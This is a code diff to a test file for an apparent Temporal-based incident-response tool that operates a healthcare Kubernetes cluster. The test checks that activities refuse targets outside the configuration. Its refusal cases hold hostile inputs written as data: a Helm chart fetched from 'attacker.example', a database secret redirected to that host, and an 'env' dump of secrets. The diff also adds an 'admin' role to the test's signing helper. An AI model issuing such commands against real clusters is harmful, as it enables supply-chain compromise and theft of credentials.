@@ -59,7 +59,7 @@ async def _start_with_config(env, workflow: str, inp: Any, wid: str, tq: str, co
     proof and raw Temporal access would send it (the proof covers the model, which excludes it)."""
     import time
 
-    proof = keyring_from_env().sign(wid, f"start:{workflow}", [inp], Principal(name=inp.requested_by, roles=["commander"]),
+    proof = keyring_from_env().sign(wid, f"start:{workflow}", [inp], Principal(name=inp.requested_by, roles=["commander", "admin"]),
                                     time.time())
     rec = _Recorder()
     rec.inject = {HEADER: proof_payload(proof)}
@@ -236,15 +236,19 @@ async def test_activities_refuse_targets_the_workers_config_does_not_name():
     """Defence in depth: even a request built from some other config touches nothing."""
     from temporalio.exceptions import ApplicationError
 
+    from activities.db_cutover import DbCutoverActivities
     from activities.health import HealthActivities
+    from activities.helm import HelmActivities
     from activities.kubernetes import KubernetesActivities
     from activities.notify import NotifierActivities
     from activities.post_incident import PostIncidentActivities
     from activities.targets import Targets
-    from domain.cluster import DbCheckRequest, HealthProbeRequest
+    from domain.cluster import DbCheckRequest, HealthProbeRequest, HelmRollbackRequest, RestartRequest, ScaleRequest
     from domain.config import NotificationConfig, PostIncidentConfig, SmokeCheck
+    from domain.database_restore import SecretBackupRef, SecretBackupRequest, SecretPointRequest
     from domain.notify import Audience, PageRequest
     from domain.post_incident import SmokeCheckRequest
+    from domain.service_recovery import HelmUpgradeRequest
 
     cfg = CodeBlueConfig(health=HealthConfig(url="http://worker.example/health"), contacts=Contacts(on_call="+1-555-0100"),
                          postincident=PostIncidentConfig(smoke_checks=[SmokeCheck(name="login", url="http://worker.example/login")]))
@@ -258,6 +262,20 @@ async def test_activities_refuse_targets_the_workers_config_does_not_name():
         KubernetesActivities(None, targets=t).db_check(DbCheckRequest(  # no API client: refused before any call
             namespace="healthcare-prod", deployment="api-gateway", secret_name="healthcare-db-secret",
             secret_key="DATABASE_URL", command=["sh", "-c", "env"])),
+        # the mutating steps: only the configured deployment, release, chart and database secret
+        KubernetesActivities(None, targets=t).scale_deployment(ScaleRequest(namespace="healthcare-prod", deployment="billing", replicas=0)),
+        KubernetesActivities(None, targets=t).rollout_restart(RestartRequest(namespace="kube-system", deployment="api-gateway",
+                                                                            restarted_at="now")),
+        HelmActivities(["helm"], targets=t).helm_rollback(HelmRollbackRequest(release="someone-else", namespace="healthcare-prod",
+                                                                              from_revision=2, to_revision=1)),
+        HelmActivities(["helm"], targets=t).helm_upgrade(HelmUpgradeRequest(
+            release="healthcare-platform", namespace="healthcare-prod", chart="oci://attacker.example/chart", image_tag="x",
+            from_revision=1, marker="m", timeout_seconds=60)),
+        DbCutoverActivities(None, targets=t).db_secret_point(SecretPointRequest(backup=SecretBackupRef(
+            namespace="healthcare-prod", secret_name="payments-db", secret_key="DATABASE_URL", backup_name="b"),
+            host="attacker.example", port=5432)),
+        DbCutoverActivities(None, targets=t).db_secret_backup(SecretBackupRequest(
+            incident_id="INC-1", namespace="healthcare-prod", secret_name="healthcare-db-secret", secret_key="OTHER_KEY")),
     ]
     for call in refusals:
         with pytest.raises(ApplicationError) as e:
